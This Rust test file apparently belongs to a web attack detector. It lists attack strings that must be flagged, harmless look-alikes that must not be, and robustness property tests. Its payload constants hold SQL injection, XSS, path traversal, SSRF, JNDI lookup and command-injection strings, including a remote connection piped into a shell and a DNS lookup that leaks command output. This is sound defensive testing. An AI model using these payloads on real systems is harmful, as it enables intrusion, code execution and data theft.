//! Attacks and what only looks like them, one line each; that all patterns compile; that nothing breaks the engines.
use bytes::Bytes;
use proptest::prelude::*;

use super::{Class, Hit, SURE, judge_value};
use crate::content::{Coding, Place, Value, readings};

fn hits(text: &str) -> Vec<Hit> {
    hits_at(text, Place::Query)
}

fn hits_at(text: &str, place: Place) -> Vec<Hit> {
    let readings = readings(&Bytes::copy_from_slice(text.as_bytes()), Coding::Plain);
    judge_value(&Value { place, name: "q".into(), readings })
}

fn classes(text: &str) -> Vec<Class> {
    hits(text).into_iter().map(|hit| hit.class).collect()
}

#[test]
fn every_pattern_compiles() {
    let rooms = [
        super::command::compiles(),
        super::pasted::compiles(),
        super::header::compiles(),
        super::ldap::compiles(),
        super::nosql::compiles(),
        super::own::compiles(),
        super::path::compiles(),
        super::sql::compiles(),
        super::ssrf::compiles(),
        super::template::compiles(),
        super::xss::compiles(),
        super::xxe::compiles(),
    ];
    assert_eq!(rooms, [true; 12]);
}

/// One attack of each kind, at least: what it is, and as what it must be found.
#[test]
fn attacks_are_found() {
    for (class, texts) in FOUND {
        for text in texts {
            assert!(classes(text).contains(&class), "{} {text}: {:?}", class.name(), hits(text));
        }
    }
}

#[test]
fn what_only_looks_like_attacks_is_none() {
    for text in LOOKING {
        assert_eq!(hits(text), [], "{text}");
    }
}

#[test]
fn what_people_paste_is_no_attack() {
    for text in PASTED {
        assert_eq!(hits(text), [], "{text}");
    }
}

#[test]
fn tricks_of_tools_are_found() {
    for (class, texts) in TRICKS {
        for text in texts {
            assert!(classes(text).contains(&class), "{} in {text}", class.name());
        }
    }
}

/// Wherever they stand, these are found, and surely.
#[test]
fn attacks_of_the_textbook_are_found_at_every_place() {
    for (class, attack) in TEXTBOOK {
        for place in PLACES {
            let hits = hits_at(attack, place);
            let sure = hits.iter().find(|hit| hit.class == class).map_or(0, |hit| hit.confidence);
            assert!(sure >= 70, "{} at {}: {sure} of {attack}", class.name(), place.name());
        }
    }
}

/// Nobody hides an attack behind words, before words, or in a block that looks pasted.
#[test]
fn attacks_are_found_among_words() {
    for (class, attack) in TEXTBOOK {
        for text in hidden(attack) {
            assert!(classes(&text).contains(&class), "{} in {text:?}", class.name());
        }
    }
}

/// The attack behind one word and more, before them, in a line of its own, in a block.
pub(super) fn hidden(attack: &str) -> Vec<String> {
    let words: Vec<&str> = WORDS.split(' ').collect();
    let mut texts = vec![format!("```\n{attack}\n```"), format!("```sh\n{attack}\n```\nthanks")];
    for count in [1, 2, 3, 5, 8, 13, 21, 40] {
        let said = words.iter().cycle().take(count).copied().collect::<Vec<_>>().join(" ");
        texts.extend([format!("{said} {attack}"), format!("{attack} {said}"), format!("{said}\n{attack}")]);
    }
    texts
}

const WORDS: &str = "please look at the order of last week since nobody answers when we call about it";

#[test]
fn what_a_hit_says() {
    let hit = hits("mary' OR 1=1 -- x").remove(0);
    assert_eq!((hit.class, hit.place, &*hit.name), (Class::Sql, Place::Query, "q"));
    assert_eq!((hit.confidence >= 95, &hit.rules[..]), (true, &["sql-tautology"][..]));
    assert_eq!(&*hit.excerpt, "....' OR 0=0 -- .");
}

#[test]
fn an_operator_in_a_name_is_found() {
    let value = |name: &str, place| Value { place, name: name.into(), readings: vec![Bytes::from_static(b"1")] };
    assert_eq!(judge_value(&value("user[$ne]", Place::Query))[0].class, Class::NoSql);
    assert_eq!(judge_value(&value("filter.age.$gt", Place::Json))[0].class, Class::NoSql);
    assert_eq!(judge_value(&value("$filter", Place::Query)), [], "other interfaces name their parameters so");
}

proptest! {
    #[test]
    fn no_text_breaks_the_engines(bytes in proptest::collection::vec(any::<u8>(), 0..200), signs in "['\"<>(){}$;|&/\\\\. a-z=*#-]{0,200}") {
        for text in [Bytes::from(bytes), Bytes::from(signs)] {
            let value = Value { place: Place::Json, name: "a".into(), readings: readings(&text, Coding::Percent) };
            let found = judge_value(&value);
            prop_assert!(found.iter().all(|hit| hit.confidence >= SURE && !hit.rules.is_empty()));
            prop_assert!(found.is_sorted_by(|one, two| one.class < two.class));
            prop_assert_eq!(found, judge_value(&value));
        }
    }
}

/// One attack of each kind, at least. Weights are learned from these, too.
pub(super) const FOUND: [(Class, &[&str]); 11] = [
    (
        Class::Command,
        &[
            "; cat /etc/passwd",
            "8.8.8.8|whoami",
            "$(sleep 5)",
            "a`id`",
            "x && w\\ho\\am\\i",
            ";cat${IFS}/etc/passwd",
            "<?php system('id');",
        ],
    ),
    (Class::Header, &["x\r\nSet-Cookie: a=b", "/a\nLocation: //b.example", "a@b.example\r\nBcc: c@d.example"]),
    (Class::Ldap, &["*)(uid=*))(|(uid=*", "admin)(&)", "x)(!(cn=y)"]),
    (Class::Lookup, &["${jndi:ldap://a.example/b}", "${${::-j}${lower:N}di:rmi://a}", "${env:HOME}"]),
    (Class::NoSql, &["{\"$ne\": null}", "' || '1'=='1", "';return true;var a='"]),
    (
        Class::Path,
        &[
            "../../../../etc/passwd",
            "..%252f..%252fboot.ini",
            "....//....//etc/shadow",
            "/etc/passwd",
            "php://filter/resource=a",
        ],
    ),
    (
        Class::Sql,
        &[
            "' or 1=1--",
            "1 union select null,null",
            "x'; drop table users--",
            "1 and sleep(5)",
            "\" or \"a\"=\"a",
            "'||(select 1 from dual)||'",
            "1/**/or/**/1=1",
        ],
    ),
    (
        Class::Ssrf,
        &[
            "http://169.254.169.254/latest/meta-data/",
            "http://127.0.0.1:8080/x",
            "gopher://a:1/_x",
            "http://0x7f000001/",
        ],
    ),
    (Class::Template, &["{{7*7}}", "${T(java.lang.Runtime)}", "<%= 3*3 %>", "{{''.__class__}}"]),
    (
        Class::Xss,
        &[
            "<script>alert(1)</script>",
            "<img src=x onerror=a()>",
            "\" onfocus=\"alert(1)",
            "javascript:alert(1)",
            "';alert(1)//",
            "<a href=jav&#x61;script:a()>",
        ],
    ),
    (Class::Xxe, &["<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///c'>]>", "<xi:include href=\"file:///a\"/>"]),
];

/// Tricks of tools.
pub(super) const TRICKS: [(Class, &[&str]); 4] = [
    (
        Class::Command,
        &[
            "a.pdf;Start-Sleep -s 12",
            "1;tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=id",
            "x&for /f \"tokens=*\" %i in ('whoami') do nslookup %i.b.example",
            "1|set a=who&set b=ami&call %a%%b%",
            "7||exec getent passwd",
            "7;openssl s_client -quiet -connect 203.0.113.1:443|sh",
        ],
    ),
    (Class::Header, &["x%0d%0aClear-Site-Data: \"*\"", "ann@b.example\nSubject: Win"]),
    (Class::Sql, &["1e0union select 1,2", "7;alter table staff drop column pw--", "1;prepare s from 0x73;execute s;"]),
    (Class::Template, &["{{.System \"id\"}}", "{{config.items()}}"]),
];

/// What only looks like an attack.
pub(super) const LOOKING: &[&str] = &[
    "O'Brien",
    "rock 'n' roll",
    "select a table or drop by",
    "and/or",
    "it's 5 o'clock -- or so",
    "I <3 you",
    "x < 3 and y > 5",
    "Q&A; R&D",
    "../images/a.png",
    "16\" or 18\"",
    "5' 11\"",
    "Use `ls -la` to list files",
    "{{ user.name }}",
    "${HOME}/bin",
    "$(\"#id\").show()",
    "https://x.example/a/../b?c=d",
    "<p>Hi <b>Ann</b></p>",
    "{\"a\":\"it's\"}",
    "black & more",
    "name;date;id",
    "f(x) = (x+1)(x-1)",
    "https://shop.example/?q=select",
    "Mozilla/5.0 (X11; Linux x86_64) Gecko (KHTML, like Gecko)",
    "Null",
    "Robert'); the comic",
    "JavaScript: the good parts",
    "union select committee",
    "--\nAnn\nTel: 1",
];

/// What people paste.
pub(super) const PASTED: &[&str] = &[
    "```bash\nfind . -name '*.tmp' -mtime +7\nnetstat -tulpn | grep :443\n```\nends with 1",
    "I tried `uname -a; uptime` and then `df -h | grep sda`, the same.",
    "pi@raspberrypi:~ $ history | grep git\nbash: syntax error",
    "[ann@web-03 ~]$ cat /proc/cpuinfo | head -5",
    "#!/bin/bash\n# backup\nfor f in *.txt; do\n  gzip -9 \"$f\"\ndone; echo $?",
    "README: first make -j4 2>&1 | tee build.log, then run it",
    "From: \"O'Connor\" <a@b.example>\nTo: c@d.example\nSubject: Re: it\n\nHello",
    "HTTP/1.1 302 Found\nLocation: /x\nSet-Cookie: a=b\n\nis what I get",
    "BEGIN:VEVENT\nSUMMARY:Choir\nLOCATION:Hall\nEND:VEVENT",
    "{\"name\": \"C&A\", \"offers\": {\"price\": \"4.99\"}, \"review\": \"it's ok & cheap\"}",
    "P<USASMITH<<JOHN<<<<<<<<<<<<<<92144",
    "File not found: /etc/nginx/sites-available/default",
    "What does SELECT * FROM sys.tables WHERE id = 0 return?",
    "EXEC Limo's",
    "bucket = \"x-${var.env}\"",
];

/// What every book begins with.
pub(super) const TEXTBOOK: [(Class, &str); 8] = [
    (Class::Sql, "' OR 1=1--"),
    (Class::Sql, "1' UNION SELECT name, pin FROM users--"),
    (Class::Xss, "<script>alert(1)</script>"),
    (Class::Command, "; cat /etc/passwd"),
    (Class::Path, "../../etc/passwd"),
    (Class::Path, "../../../../etc/passwd"),
    (Class::Template, "{{7*7}}"),
    (Class::Lookup, "${jndi:ldap://a.example/b}"),
];

pub(super) const PLACES: [Place; 7] =
    [Place::Path, Place::Query, Place::Header, Place::Cookie, Place::Form, Place::Json, Place::Multipart];
